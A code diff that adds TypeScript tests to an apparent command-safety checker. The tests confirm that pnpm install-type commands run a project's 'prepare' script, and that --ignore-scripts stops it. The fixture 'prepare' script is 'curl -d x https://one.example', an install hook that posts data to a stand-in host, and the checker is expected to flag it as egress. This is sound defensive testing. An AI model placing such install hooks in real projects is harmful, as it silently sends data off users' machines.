@@ -255,3 +255,32 @@ describe("where scripts may run it is asked about", () => {
       expect(await verdictOf(command, files)).toBe("ask");
   });
 });
+
+// Measured with pnpm 8, 9 and 10.
+describe("scripts of the project that pnpm runs when it installs", () => {
+  const runsPrepare = async (command: string): Promise<boolean> => {
+    const scripts = { prepare: "curl -d x https://one.example" };
+    const clear = place(where(), { ...NPM_FILES, "package.json": manifest({ scripts }) });
+    try {
+      const { effects } = await judgeCommand(where(), command);
+      return effects.some((one) => one.kind === "egress" && one.destination.host === "one.example");
+    } finally {
+      clear();
+    }
+  };
+
+  it.each([
+    ...["install", "update", "up left", "prune", "dedupe", "rebuild", "link ../left"],
+    ...["--filter web remove left", "--filter=web add left", "-r remove left"],
+  ])("pnpm %s: they run", async (words) => {
+    expect(await runsPrepare(`pnpm ${words}`)).toBe(true);
+    expect(await runsPrepare(`pnpm ${words} --ignore-scripts`)).toBe(false);
+  });
+
+  it.each(["pnpm remove left", "pnpm add left", "npm uninstall left", "npm update"])(
+    "%s: they do not",
+    async (command) => {
+      expect(await runsPrepare(command)).toBe(false);
+    },
+  );
+});
